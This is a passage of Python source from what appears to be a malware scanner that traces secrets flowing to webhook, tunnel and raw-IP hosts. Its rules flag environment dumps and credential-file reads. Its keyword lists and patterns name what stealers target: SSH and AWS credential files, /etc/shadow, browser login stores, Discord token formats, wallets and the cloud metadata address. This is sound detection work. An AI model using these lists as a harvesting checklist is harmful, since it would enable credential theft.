        """Label of the credential store a path expression names (joined parts, known names)."""
        if expr is None or depth > 8:
            return None
        key = _name_of(expr)
        if key is not None and key in self.paths:
            return self.paths[key]
        if isinstance(expr, ast.Subscript):
            return self.path_label(expr.value, depth + 1)
        if isinstance(expr, ast.Call) and not self._builds_path(expr):
            return None
        text = self._path_text(expr)
        if text:
            sp = ind.sensitive_paths(text)
            if sp:
                return sp[0].label
        if isinstance(expr, ast.Call | ast.BinOp | ast.JoinedStr | ast.FormattedValue | ast.List
                      | ast.Tuple | ast.Set | ast.Dict | ast.Starred):  # fmt: skip
            for child in ast.iter_child_nodes(expr):
                if isinstance(child, ast.expr):
                    label = self.path_label(child, depth + 1)
                    if label:
                        return label
        return None

    def _builds_path(self, call: ast.Call) -> bool:
        name = self.ctx.call_name(call)
        t = tail(name)
        return name in _PATH_BUILDERS or t in _PATH_BUILDERS or t in ("join", "format", "replace")

    def _path_text(self, expr: ast.AST) -> str | None:
        if isinstance(expr, ast.Call):
            name = self.ctx.call_name(expr) or ""
            if tail(name) in ("join", "joinpath", "Path", "PurePath", "PureWindowsPath") and (
                name.startswith(("os.path", "pathlib", "posixpath", "ntpath"))
                or tail(name) != "join"
            ):
                parts = [loose_str(a, self.ctx) or HOLE for a in expr.args]
                return "/".join(parts)
        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Div):
            left = self._path_text(expr.left) or loose_str(expr.left, self.ctx) or HOLE
            right = loose_str(expr.right, self.ctx) or HOLE
            return f"{left}/{right}"
        return loose_str(expr, self.ctx)

    # data taint ------------------------------------------------------------------------
    def taint(self, expr: ast.AST | None, depth: int = 0) -> Taint | None:
        if expr is None or depth > 30:
            return None
        d = depth + 1
        key = _name_of(expr)
        if key is not None:
            if key in self.names:
                return self.names[key]
            q = self.ctx.qualname(expr)
            if q in ENVIRON:
                return Taint(STRONG, "the whole environment (`os.environ`)")
            if isinstance(expr, ast.Attribute):
                return self.taint(expr.value, d)
            return None
        if isinstance(expr, ast.Subscript):
            q = self.ctx.qualname(expr.value)
            if q in ENVIRON:
                return self._env_var(expr.slice)
            return _join([self.taint(expr.value, d), self.taint(expr.slice, d)])
        if isinstance(expr, ast.Call):
            return self._call(expr, d)
        if isinstance(expr, ast.Lambda | ast.Compare):
            return None  # `"CI" in os.environ` is a boolean, not the environment
        return _join(
            self.taint(c, d)
            for c in ast.iter_child_nodes(expr)
            if isinstance(c, ast.expr | ast.comprehension | ast.keyword)
        )

    def _env_var(self, key: ast.AST | None) -> Taint | None:
        var = self.ctx.const_str(key) if key is not None else None
        if not var:
            return None
        if FINGERPRINT_ENV.match(var):
            return Taint(FINGERPRINT, f"`{var}`")
        if SECRET_ENV.search(var):
            return Taint(NAMED_SECRET, f"`{var}`")
        return None

    def _call(self, call: ast.Call, d: int) -> Taint | None:
        ctx = self.ctx
        name = ctx.call_name(call)
        t = tail(name)
        # sources
        if name in FINGERPRINT_CALLS:
            return Taint(FINGERPRINT, FINGERPRINT_CALLS[name])
        if name in _ENV_SINGLE or (name in ("os.environ.get",) and call.args):
            return self._env_var(call.args[0] if call.args else None)
        if name == "os.listdir" and call.args:
            target = ctx.const_str(call.args[0])
            if target and target.startswith("/"):
                return Taint(FINGERPRINT, f"a listing of `{target}`")
        if t in ("get_credentials", "get_frozen_credentials") and not call.args:
            return Taint(STRONG, "cloud credentials (`get_credentials`)")
        if matches(name, DECRYPT_STORE) or t == "CryptUnprotectData":
            return Taint(STRONG, "data decrypted with CryptUnprotectData")
        if name in CLIPBOARD_READ or t == "clipboard_get":
            return Taint(STRONG, "the clipboard")
        if name in SCREENSHOT or (name or "").endswith("ImageGrab.grab"):
            return Taint(STRONG, "a screenshot")
        if t in ("findall", "finditer", "search", "match") and call.args:
            pattern = ctx.const_str(call.args[0])
            if pattern and _token_regex(pattern):
                return _join(
                    [
                        Taint(STRONG, "Discord tokens"),
                        self.taint(call.args[1] if len(call.args) > 1 else None, d),
                    ]
                )
        for arg in call.args[:1]:
            url = ctx.const_str(arg)
            if url and ind.is_ip_lookup(url):
                return Taint(FINGERPRINT, "the public IP address")
            if url and any(h in url for h in IMDS_HOSTS):
                return Taint(STRONG, "cloud instance metadata (credentials)")
        if is_exec_call(name):
            cmd = command_of(call, ctx) or ""
            if _ENV_CMDS.match(cmd):
                return Taint(STRONG, "the whole environment (`env`)")
            if _RECON_CMDS.match(cmd):
                return Taint(FINGERPRINT, f"`{cmd.strip()}` output")
            ct = command_taint(cmd) if "$(" in cmd or "`" in cmd else None
            sp = ind.sensitive_paths(cmd.split()[-1]) if cmd.strip() else []
            if sp:
                return Taint(STRONG, sp[0].label)
            return ct
        if (
            name in _SANITIZERS
            or t in _SANITIZERS
            or (name or "").startswith(("hashlib.", "hmac."))
        ):
            return None
        if (name or "").startswith(("os.environ.", "os.environb.")) and t in _ENV_DUMP_METHODS:
            return Taint(STRONG, "the whole environment (`os.environ`)")
        if t in self.returns and (
            name == t or (name or "").startswith(("self.", "cls.")) or "." not in (name or "")
        ):
            return self.returns[t]
        # reads of credential stores
        sending = t in _SEND_TAILS or (name or "").startswith(_HTTP_MODULES)
        if not (name in _PATH_CHECKS or t in _PATH_CHECKS or sending):
            if name in _PATH_BUILDERS or t in _PATH_BUILDERS:
                pass
            else:
                for arg in [*call.args, *(k.value for k in call.keywords)]:
                    label = self.path_label(arg)
                    if label:
                        return Taint(STRONG, label)
                if isinstance(call.func, ast.Attribute):
                    label = self.path_label(call.func.value)
                    if label and t in (
                        "read_text",
                        "read_bytes",
                        "open",
                        "iterdir",
                        "glob",
                        "rglob",
                    ):
                        return Taint(STRONG, label)
        # propagation through the call: receiver and arguments
        parts: list[Taint | None] = []
        if isinstance(call.func, ast.Attribute):
            parts.append(self.taint(call.func.value, d))
        parts.extend(self.taint(a, d) for a in call.args)
        parts.extend(self.taint(k.value, d) for k in call.keywords)
        return _join(parts)


def _token_regex(pattern: str) -> bool:
    """A regular expression shaped like a Discord token (or its encrypted storage prefix)."""
    if "dQw4w9WgXcQ:" in pattern:  # the prefix of encrypted tokens (bare, it is a video id)
        return True
    if re.search(r"\{2[34]\}.{0,12}\\?\.\s*.{0,12}\{6\}.{0,12}\{(2[5-9]|3[0-9])", pattern):
        return True
    return bool(re.search(r"mfa\\?\.\[.{0,10}\]\{8[0-9]\}", pattern))


def _targets(node: ast.AST) -> list[str]:
    out = []
    for t in ast.walk(node):
        if isinstance(t, ast.Name | ast.Attribute) and isinstance(
            getattr(t, "ctx", None), ast.Store
        ):
            key = _name_of(t)
            if key:
                out.append(key)
        elif isinstance(t, ast.Subscript) and isinstance(t.ctx, ast.Store):
            key = _name_of(t.value)
            if key:
                out.append(key)
    return out


_MUTATORS = frozenset({"append", "extend", "update", "add", "insert", "setdefault", "write",
                       "writestr", "appendleft", "put"})  # fmt: skip


def _analyse_scope(facts: Facts, scope: ast.AST, names: dict[str, Taint], paths: dict[str, str],
                   returns: dict[str, Taint]) -> tuple[dict[str, Taint], dict[str, str], Taint | None]:  # fmt: skip
    """Fixpoint of names→taint and names→credential-path in one scope; and what it returns."""
    nodes = facts.by_scope.get(id(scope), [])
    names = dict(names)
    paths = dict(paths)
    if isinstance(scope, ast.FunctionDef | ast.AsyncFunctionDef | ast.Lambda):
        args = scope.args
        for a in [*args.posonlyargs, *args.args, *args.kwonlyargs]:
            if a.arg in ("self", "cls"):
                continue
            if KEY_NAMES.match(a.arg):
                names[a.arg] = Taint(
                    NAMED_SECRET, f"the wallet key/seed argument `{a.arg}`", frozenset({a.arg})
                )
            else:
                names[a.arg] = Taint(0, f"argument `{a.arg}`", frozenset({a.arg}))
    tainter = _Tainter(facts, names, paths, returns)
    ret: Taint | None = None
    for _ in range(4):
        changed = False
        for node in nodes:
            pairs: list[tuple[list[str], ast.AST | None]] = []
            if isinstance(node, ast.Assign | ast.AnnAssign | ast.AugAssign | ast.NamedExpr):
                tgts = node.targets if isinstance(node, ast.Assign) else [node.target]
                keys = (
                    [k for t in tgts for k in _targets(t)]
                    if not isinstance(node, ast.NamedExpr)
                    else [node.target.id]
                )
                if isinstance(node, ast.AugAssign | ast.AnnAssign) and isinstance(
                    node.target, ast.Name
                ):
                    keys = [node.target.id]
                pairs.append((keys, node.value))
                for t in tgts:  # a[k] = v, self.x[k] = v
                    if isinstance(t, ast.Subscript):
                        base = _name_of(t.value)
                        if base:
                            pairs.append(([base], node.value))
            elif isinstance(node, ast.For | ast.AsyncFor | ast.comprehension):
                pairs.append((_targets(node.target), node.iter))
            elif isinstance(node, ast.withitem) and node.optional_vars is not None:
                pairs.append((_targets(node.optional_vars), node.context_expr))
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                if node.func.attr in _MUTATORS:
                    base = _name_of(node.func.value)
                    if base:
                        for arg in [*node.args, *(k.value for k in node.keywords)]:
                            pairs.append(([base], arg))
            elif isinstance(node, ast.Return | ast.Yield) and node.value is not None:
                ret = _join([ret, tainter.taint(node.value)])
            for keys, value in pairs:
                if value is None or not keys:
                    continue
                t = tainter.taint(value)
                if t is not None and t.level >= STRONG and len(facts.strong_reads) < 20:
                    facts.strong_reads.append((value, t.label))
                label = tainter.path_label(value) if t is None or t.level < STRONG else None
                for k in keys:
                    if t is not None:
                        new = t | names.get(k)
                        if names.get(k) != new:
                            names[k] = new
                            changed = True
                    if label and k not in paths:
                        paths[k] = label
                        changed = True
        if not changed:
            break
    return names, paths, ret


_SENDISH = (b"post", b"put", b"urlopen", b"Request", b"request", b"get(", b"Webhook", b"curl",
            b"wget", b"send", b"Bot(", b"Invoke-", b"iwr", b"irm")  # fmt: skip


def _folder(name: bytes) -> Anchored:
    """A credential folder as a path spells it: followed by a separator, the end of its
    string (`os.path.join(home, ".kube", "config")`) or an f-string field, never by more of
    a word (`application/vnd.kubernetes.protobuf` fills large SDKs)."""
    return anchored(re.escape(name) + rb"(?=[/\\'\"{])", name)


# what a stealer reads, as literals: one Aho-Corasick pass instead of a regex alternation
# tried at every byte (~40 ms per 250 KB file); the credential folders count as a path
# spells them (`vnd.kubernetes` in every API docstring of a Kubernetes client is no read)
_SOURCE_FOLDERS = tuple(_folder(f) for f in (b".ssh", b".aws", b".docker", b".kube"))
_SOURCE_WORDS = Words((
    b"get_credentials", b"get_frozen_credentials", b"gethostname", b"getfqdn", b"platform.node",
    b"node()", b"uname", b"getuser", b"getlogin", b"getnode", b"GetUserName", b"GetComputerName",
    b"environ)", b"environ:", b"environ,", b"environ.copy", b"environ.items", b"environ.keys",
    b"environ.values", b"CryptUnprotectData", b"paste(", b"GetClipboardData", b"clipboard_get",
    b"ImageGrab", b"screenshot", b"mss(", b"listdir", b"whoami", b"printenv", b"169.254.169.254",
    b"metadata.google", b"{24}", b"dQw4w9WgXcQ", b"id_rsa", b"netrc", b"pypirc",
    b"npmrc", b"/etc/passwd", b"/etc/shadow", b"Keychain", b"Login Data",
    b"Cookies", b"Local State", b"logins.json", b"key4.db", b"leveldb", b"Local Storage",
    b"wallet", b"Wallet", b"Exodus", b"Electrum", b"solana", b"USERNAME", b"COMPUTERNAME",
    b"ipify", b"ipinfo", b"ifconfig", b"icanhazip", b"ip-api", b"ipapi", b"checkip", b"ident.me",
    b"myip",
))  # fmt: skip
_CANDIDATE: dict[int, tuple[object, tuple[bool, bool]]] = {}  # id(FileContext) -> (it, answer)


def _candidate(file: FileContext) -> tuple[bool, bool]:
    """(names a drop destination, reads something worth stealing): a cheap look at the text
    before the per-file analysis, once per file even when the engine parses it in blocks."""
    entry = _CANDIDATE.get(id(file))
    if entry is not None and entry[0] is file:
        return entry[1]
    data = file.member.data
    drop = sources = False
    if any(t in data for t in _SENDISH):
        for url in set(ind.find_urls(_url_lines(file.text))):
            if _drop_url(url):
                drop = True
                break
        found = file.found  # the engine's trigger scan looked for the words below
        drop = (
            drop
            or bool(_TELEGRAM_TOKEN_BYTES.search(data))
            or ((found is None or not found.isdisjoint(_DROP_SUFFIXES.words))
                and _drop_host_bytes(data))
            or b"chr(" in data
        )  # fmt: skip
        if not drop and _IP_HINT.search(data):
            for m in _IP_BYTES.finditer(data):
                if ind.is_public_ip(m.group(1).decode()):
                    drop = True
                    break
        sources = (
            _SOURCE_WORDS.search(data)
            if found is None
            else not found.isdisjoint(_SOURCE_WORDS.words)
        ) or any(f.anchors[0] in data and f.pattern.search(data) for f in _SOURCE_FOLDERS)
    if len(_CANDIDATE) > 64:
        _CANDIDATE.clear()
    _CANDIDATE[id(file)] = (file, (drop, sources))
    return drop, sources


def _url_lines(text: str) -> str:
    """The lines of ``text`` that hold "://", joined: all ``find_urls`` can find in it (a URL
    never spans lines), without running its regex over every line of a big file."""
    return "\n".join(text[a:b] for a, b in _url_line_spans(text))


def _url_line_spans(text: str) -> Iterator[tuple[int, int]]:
    """(start, end) of each line of ``text`` that holds "://", in order."""
    pos = text.find("://")
    while pos >= 0:
        end = text.find("\n", pos)
        end = len(text) if end < 0 else end
        yield text.rfind("\n", 0, pos) + 1, end
        pos = text.find("://", end)


@lru_cache(maxsize=8192)
def _drop_url(url: str) -> bool:
    return ind.url_kind(url) in ind.DROP_KINDS or ind.url_host(url) in _HOOK_HOSTS


# drop hosts written without a scheme, or inside a longer string: what the regex
# rb"[\w-]\.(suffix|...)\b" finds, from one pass for the suffixes (the regex tries each of
# them at every byte of the file)
_DROP_SUFFIXES = Words(b"." + x.encode() for x in sorted(
    ind.TUNNEL_SUFFIXES | ind.MOCK_API_SUFFIXES | ind.DYNDNS_SUFFIXES | ind.FILE_HOST_SUFFIXES))  # fmt: skip
_WORD_BYTES = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_")


def _drop_host_bytes(data: bytes) -> bool:
    for start, word in _DROP_SUFFIXES.finditer(data):
        if start == 0 or (data[start - 1] not in _WORD_BYTES and data[start - 1] != ord("-")):
            continue
        end = start + len(word)  # `\b` after the suffix
        if (data[end - 1] in _WORD_BYTES) != (end < len(data) and data[end] in _WORD_BYTES):
            return True
    return False


_IP_BYTES = re.compile(rb"['\"]((?:\d{1,3}\.){3}\d{1,3})['\"]")
# the tail every match of _IP_BYTES holds, searched first: a literal lead (".") lets `re`
# skip ahead, where _IP_BYTES tries its quote-and-digits head at every byte
_IP_HINT = re.compile(rb"\.\d{1,3}\.\d{1,3}\.\d{1,3}['\"]")
_HOOK_HOSTS = frozenset({"discord.com", "discordapp.com", "ptb.discord.com", "canary.discord.com",
                         "hooks.slack.com", "api.telegram.org"})  # fmt: skip
_TELEGRAM_TOKEN_BYTES = re.compile(rb"['\"]\d{6,12}:[A-Za-z0-9_-]{30,}['\"]")


def _may_send(file: FileContext, need_drop: bool) -> bool:
    """Whether the per-file flow analysis is worth running. Without a drop destination in the
    text, only a secret sent to an ordinary fixed host can be found: not looked for in tests
    (tests copy and patch the environment all the time) or in very large generated files."""
    drop, sources = _candidate(file)
    if drop:
        return True
    if need_drop or not sources:
        return False
    return file.where is not Where.TEST and len(file.member.data) < 1_000_000


_CANDIDATE_KEYS = _SOURCE_WORDS.words | _DROP_SUFFIXES.words


def _may_send_to_drop(file: FileContext) -> bool:
    return _may_send(file, need_drop=True)


def _may_send_anywhere(file: FileContext) -> bool:
    return _may_send(file, need_drop=False)


def facts_for(ctx: PyContext) -> Facts:
    """All sends and secret→send flows of one file, computed once and shared by the rules."""
    cached = _FACTS.get(ctx.tree)
    if cached is not None and cached.ctx.file is ctx.file:
        return cached
    facts = _prescan(ctx)
    _FACTS[ctx.tree] = facts
    calls = facts.calls
    for call in calls:
        if _telegram_bot(call, facts):
            facts.telegram_fixed = True
        send = _http_send(call, facts) or _shell_send(call, facts)
        if send is not None:
            facts.sends.append(send)
    facts.sends.extend(_socket_sends(facts, calls))
    facts.sends.extend(_hook_object_sends(facts, calls))
    if facts.telegram_fixed:
        for call in calls:
            if isinstance(call.func, ast.Attribute) and call.func.attr in _TELEGRAM_SENDS:
                facts.sends.append(Send(call, call.func.attr, "api.telegram.org (bot token in the code)",
                                        ind.WEBHOOK, "api.telegram.org", True, True, list(call.args)))  # fmt: skip
    if not any(s.fixed and s.carries_data for s in facts.sends):
        return facts
    _flows(facts, calls)
    return facts


def _flows(facts: Facts, calls: list[ast.Call]) -> None:
    """Secret → fixed-destination flows, with one level of helper summaries (2 rounds)."""
    funcs: dict[str, ast.AST] = {}
    for s in facts.scopes:
        if isinstance(s, ast.FunctionDef | ast.AsyncFunctionDef):
            funcs.setdefault(s.name, s)
    sends_by_scope: dict[int, list[Send]] = {}
    for s in facts.sends:
        if s.fixed and s.carries_data:
            sends_by_scope.setdefault(
                id(facts.scope_of.get(id(s.node), facts.ctx.tree)), []
            ).append(s)
    returns: dict[str, Taint] = {}
    helpers: dict[str, tuple[Send, tuple[str, ...]]] = {}  # function -> (its send, params sent)
    mod_names: dict[str, Taint] = {}
    mod_paths: dict[str, str] = {}
    seen: set[tuple[int, int]] = set()
    for _round in range(3):
        mod_names, mod_paths, _ = _analyse_scope(
            facts, facts.ctx.tree, mod_names, mod_paths, returns
        )
        for scope in facts.scopes:
            if scope is facts.ctx.tree:
                names, paths = mod_names, mod_paths
            else:
                base = {k: v for k, v in mod_names.items() if v.level > 0}
                names, paths, ret = _analyse_scope(facts, scope, base, mod_paths, returns)
                fname = getattr(scope, "name", None)
                if fname and ret is not None and ret.level > 0:
                    returns[fname] = Taint(ret.level, ret.label)
            tainter = _Tainter(facts, names, paths, returns)
            for send in sends_by_scope.get(id(scope), []):
                data = _join([send.inline, *(tainter.taint(e) for e in send.data)])
                if data is None:
                    continue
                if data.level > 0 and (id(send.node), data.level) not in seen:
                    seen.add((id(send.node), data.level))
                    facts.flows.append((send, data))
                fname = getattr(scope, "name", None)
                if fname and data.params and fname not in helpers:
                    helpers[fname] = (send, tuple(sorted(data.params)))
            # calls into helpers that send their argument to a fixed place
            for node in facts.by_scope.get(id(scope), []):
                if not isinstance(node, ast.Call):
                    continue
                callee = tail(facts.ctx.call_name(node))
                if callee not in helpers or funcs.get(callee) is scope:
                    continue
                send, params = helpers[callee]
                fdef = funcs.get(callee)
                if fdef is None:
                    continue
                pnames = [a.arg for a in fdef.args.args if a.arg not in ("self", "cls")]
                carried: list[Taint | None] = []
                for i, arg in enumerate(node.args):
                    if i < len(pnames) and pnames[i] in params:
                        carried.append(tainter.taint(arg))
                for kw in node.keywords:
                    if kw.arg in params:
                        carried.append(tainter.taint(kw.value))
                data = _join(carried)
                if data is None:
                    continue
                fname = getattr(scope, "name", None)
                if data.level > 0 and (id(node), data.level) not in seen:
                    seen.add((id(node), data.level))
                    via = Send(
                        node, send.api, send.url, send.kind, send.host, True, True, via=callee
                    )
                    facts.flows.append((via, data))
                if fname and data.params and fname not in helpers:
                    helpers[fname] = (send, tuple(sorted(data.params)))


def _kind_word(send: Send) -> str:
    if send.kind is None:
        return f"a hard-coded host ({send.host})"
    word = {
        ind.WEBHOOK: "webhook",
        ind.PASTE: "paste site",
        ind.TUNNEL: "tunnel/request-catcher host",
        ind.MOCK_API: "mock-API host",
        ind.FILE_HOST: "file-sharing host",
        ind.RAW_IP: "raw IP address",
        ind.DYNDNS: "dynamic-DNS host",
        ind.SHORTENER: "link shortener",
    }[send.kind]
    return f"a hard-coded {word} ({send.host})"


# -- rules: single capabilities ----------------------------------------------------------------


def _scope_node(ctx: PyContext) -> ast.AST:
    for node in reversed(ctx.scope):
        if isinstance(node, _SCOPES):
            return node
    return ctx.tree


def _used_as_child_env(name: str, scope: ast.AST) -> bool:
    """True when a copied environment is handed to a child process (``env=name``) or edited."""
    for node in ast.walk(scope):
        if isinstance(node, ast.keyword) and node.arg == "env" and _name_of(node.value) == name:
            return True
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and (
                node.func.attr in ("update", "pop", "setdefault", "__setitem__")
                and _name_of(node.func.value) == name
            )
        ):
            return True
        if isinstance(node, ast.Subscript) and isinstance(node.ctx, ast.Store | ast.Del):
            if _name_of(node.value) == name:
                return True
    return False


def _assigned_name(node: ast.AST, scope: ast.AST) -> str | None:
    for parent in ast.walk(scope):
        if isinstance(parent, ast.Assign) and parent.value is node and len(parent.targets) == 1:
            return _name_of(parent.targets[0])
    return None


def _in_env_keyword(node: ast.AST, scope: ast.AST) -> bool:
    for kw in ast.walk(scope):
        if isinstance(kw, ast.keyword) and kw.arg == "env" and kw.value is node:
            return True
    return False


@node_rule(
    "DOU501",
    "environment_dumped",
    family=Family.EXFILTRATION,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call, ast.For),
    triggers=(
        all_of(
            (
                b"environ)",
                b"environ.copy",
                b"environ.items",
                b"environ.keys",
                b"environ.values",
                b"environ:",
                b"environ,",
            ),
            written_names(ENVIRON),
        ),
    ),  # fmt: skip
    tags=(Tag.SECRET_READ,),
)
def environment_dumped(node: ast.Call | ast.For, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags code that takes the whole process environment at once:
    `dict(os.environ)`, `os.environ.copy()`, `json.dumps(os.environ)`, `str(os.environ)`,
    or a loop over `os.environ`. A copy handed to a child process (`env=`) or edited before
    use is left alone.

    Why it matters: CI runners and developer shells keep cloud keys, index tokens and
    passwords in the environment; stealers send it whole. Reading it is ordinary in
    configuration code, so this is LOW on its own and weighs when the same data is sent
    (DOU511).

    Example: `data = dict(os.environ)` followed by a POST to a tunnel host in `setup.py`.
    """
    if isinstance(node, ast.For):
        it = node.iter
        if isinstance(it, ast.Call) and isinstance(it.func, ast.Attribute):
            it = it.func.value if it.func.attr in ("items", "keys", "values") else it
        if ctx.qualname(it) in ENVIRON:
            yield ctx.hit(node, "loop over every environment variable (`os.environ`)")
        return
    name = ctx.call_name(node)
    if not name:
        return
    hit = False
    if name in _ENV_DUMP_WRAPPERS and node.args and ctx.qualname(node.args[0]) in ENVIRON:
        if name == "dict" and (len(node.args) > 1 or node.keywords):
            return  # dict(os.environ, FOO="1"): building a child's environment
        hit = True
    elif name.startswith(("os.environ.", "os.environb.")) and tail(name) in (
        "copy",
        "__repr__",
        "__str__",
    ):
        hit = True
    if not hit:
        return
    scope = _scope_node(ctx)
    if _in_env_keyword(node, scope):
        return
    target = _assigned_name(node, scope)
    if target and _used_as_child_env(target, scope):
        return
    yield ctx.hit(node, f"`{name}` takes a copy of the whole environment")


_FOLDERS = (b".ssh", b".aws", b"gcloud", b".azure", b".docker", b".kube")
_SENSITIVE_TRIGGERS = (b"id_rsa", b"id_ed25519", b"id_ecdsa", b"id_dsa", b"git-credentials",
                       b"netrc", b"pypirc", b"npmrc", b"hosts.yml", b"/etc/passwd", b"/etc/shadow",
                       b"/etc/gshadow", b"Keychains", b"keychain", b"keyrings",
                       all_of(_FOLDERS, [_folder(f) for f in _FOLDERS]))  # fmt: skip
_GENERAL_KINDS = frozenset({ind.SSH, ind.CLOUD, ind.TOKENS, ind.SYSTEM, ind.KEYCHAIN})


@node_rule(
    "DOU502",
    "credential_file_access",
    family=Family.EXFILTRATION,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=_SENSITIVE_TRIGGERS,
    tags=(Tag.SECRET_READ,),
)
def credential_file_access(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a call whose path argument names a credential file: `~/.ssh`
    and private keys, `~/.aws/credentials`, gcloud/Azure tokens, `.git-credentials`,
    `.netrc`, `.pypirc`, `.npmrc`, `~/.docker/config.json`, `~/.kube/config`, `/etc/passwd`,
    `/etc/shadow`, keychains. Path parts joined with `os.path.join`/`Path` are put together
    first.

    Why it matters: these files hold keys and tokens that let an attacker publish as the
    victim or enter their cloud. Clients legitimately read their own (an SSH library reads
    `~/.ssh`, an uploader reads `.pypirc`), and tests use `/etc/passwd` as a path-traversal
    input, so this is LOW (MEDIUM for `/etc/shadow` and keychains); it weighs with a send.

    Example: `open(os.path.expanduser("~/.aws/credentials")).read()` in `setup.py`.
    """
    name = ctx.call_name(node) or ""
    t = tail(name)
    if (
        t in ("join", "joinpath", "expanduser", "Path", "PurePath", "expandvars")
        or name in _PATH_CHECKS
        or t in _PATH_CHECKS
    ):
        return  # building or testing a path; the call that uses it is flagged
    candidates = [*node.args, *(k.value for k in node.keywords)]
    if isinstance(node.func, ast.Attribute) and t in (
        "read_text",
        "read_bytes",
        "open",
        "iterdir",
        "glob",
        "rglob",
    ):
        candidates.append(
            node.func.value
        )  # Path.home().joinpath(".aws", "credentials").read_text()
    if t in _MESSAGE_CALLS:
        return  # a log line or message that mentions the file
    for arg in candidates:
        text = _path_text(arg, ctx)
        if not text or " " in text.strip():  # a sentence, not a path
            continue
        found = [sp for sp in ind.sensitive_paths(text) if sp.kind in _GENERAL_KINDS]
        if not found:
            continue
        sp = found[0]
        sev = Severity.MEDIUM if sp.label in ("/etc/shadow", "macOS keychain") else None
        yield ctx.hit(node, f"`{name or t}` uses {sp.label} ({text[:60]})", severity=sev)
        return


_MESSAGE_CALLS = frozenset({"debug", "info", "warning", "warn", "error", "exception", "critical", "log",
                           "print", "echo", "secho", "pop", "get", "setdefault", "format", "add_argument",
                           "Option", "option", "Field", "help", "append"})  # fmt: skip


def _path_text(expr: ast.AST, ctx: PyContext, depth: int = 0) -> str | None:
    """A path expression as text: `os.path.join`/`Path` parts joined by "/", holes as …."""
    if depth > 6:
        return None
    if isinstance(expr, ast.Call):
        name = ctx.call_name(expr) or ""
        t = tail(name)
        if t in ("join", "joinpath", "Path", "PurePath") and (
            t != "join" or name.startswith(("os.path", "posixpath", "ntpath"))
        ):
            return "/".join(_path_text(a, ctx, depth + 1) or HOLE for a in expr.args)
        if t in ("expanduser", "expandvars", "Path", "abspath", "normpath") and expr.args:
            return _path_text(expr.args[0], ctx, depth + 1)
    if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.Div):
        left = _path_text(expr.left, ctx, depth + 1) or HOLE
        right = _path_text(expr.right, ctx, depth + 1) or HOLE
        return f"{left}/{right}"
    return loose_str(expr, ctx)


# -- rules: stealer evidence over a whole file -------------------------------------------------


def _strings(tree: ast.AST, ctx: PyContext) -> Iterator[tuple[ast.AST, str]]:
    """Every string constant and f-string (as loose text) of a module, skipping docstrings."""
    docs: set[int] = set()
    nodes = walk_order(tree)
    for node in nodes:
        if isinstance(node, ast.Module | ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
            body = node.body
            if body and isinstance(body[0], ast.Expr) and isinstance(body[0].value, ast.Constant):
                docs.add(id(body[0].value))
    for node in nodes:
        if isinstance(node, ast.JoinedStr):
            text = loose_str(node, ctx)
            if text:
                yield node, text
        elif isinstance(node, ast.Call) and tail(ctx.call_name(node)) in (
            "join",
            "joinpath",
            "Path",
        ):
            text = _path_text(node, ctx)
            if text and "/" in text:
                yield node, text
        elif (
            isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in docs
        ):
            if len(node.value) < 2000:
                yield node, node.value


def _evidence(ctx: PyContext) -> dict[str, list[tuple[ast.AST, str]]]:
    """Stealer evidence of a file by category: credential-store paths, token regexes, APIs."""
    cached = _EVIDENCE.get(ctx.tree)
    if cached is not None:
        return cached
    ev: dict[str, list[tuple[ast.AST, str]]] = {}
    for node, text in _strings(ctx.tree, ctx):
        for sp in ind.sensitive_paths(text):
            if sp.kind in (ind.BROWSER, ind.DISCORD, ind.WALLET):
                if sp.kind == ind.WALLET and "chrome-extension://" in text:
                    continue  # opening an extension's page in an automated browser
                ev.setdefault(f"{sp.kind}:{sp.label}", []).append((node, text))
        if _token_regex(text):
            ev.setdefault("discord:token regex", []).append((node, text))
        low = text.lower()
        if "users/@me" in low and ("discord" in low or low.startswith(("/users/@me", "users/@me"))):
            ev.setdefault("discordapi:account API", []).append((node, text))
        if text in ("encrypted_key", "os_crypt"):
            ev.setdefault("browser:master key", []).append((node, text))
        if low.endswith((".ldb", ".log")) and len(low) <= 5 or low in ("ldb", "log"):
            ev.setdefault("leveldb:files", []).append((node, text))
    for node in walk_order(ctx.tree):
        if isinstance(node, ast.Call):
            name = ctx.call_name(node)
            if matches(name, DECRYPT_STORE) or tail(name) == "CryptUnprotectData":
                ev.setdefault("decrypt:CryptUnprotectData", []).append((node, name or ""))
        elif isinstance(node, ast.Attribute) and node.attr == "CryptUnprotectData":
            ev.setdefault("decrypt:CryptUnprotectData", []).append((node, "CryptUnprotectData"))
    _EVIDENCE[ctx.tree] = ev
    return ev


_EVIDENCE: weakref.WeakKeyDictionary[ast.AST, dict] = weakref.WeakKeyDictionary()


def _first(items: Iterable[tuple[ast.AST, str]]) -> ast.AST:
    return min(
        (n for n, _ in items), key=lambda n: (getattr(n, "lineno", 0), getattr(n, "col_offset", 0))
    )


def _module_hit(ctx: PyContext, node: ast.AST, message: str, **kw) -> Hit:
    facts = _FACTS.get(ctx.tree)
    where = where_of(facts, node) if facts is not None else _where_simple(ctx, node)
    return Hit(
        message=message,
        line=getattr(node, "lineno", None),
        snippet=ctx.snippet(node),
        where=where,
        **kw,
    )


def _where_simple(ctx: PyContext, node: ast.AST) -> Where:
    base = ctx.file.where
    if base in (Where.INSTALL, Where.TEST):
        return base
    line = getattr(node, "lineno", 0)
    for scope in walk_order(ctx.tree):
        if isinstance(scope, _SCOPES) or (isinstance(scope, ast.If) and _is_main_guard(scope)):
            end = getattr(scope, "end_lineno", None) or scope.lineno
            if scope.lineno < line <= end or (
                isinstance(scope, ast.Lambda) and scope.lineno == line
            ):
                return Where.FUNCTION
    return base


_DISCORD_TRIGGERS = (b"leveldb", b"Local Storage", b"dQw4w9WgXcQ", b"{24}", b"{84}", b"discord")


@node_rule(
    "DOU503",
    "discord_token_harvest",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Module,),
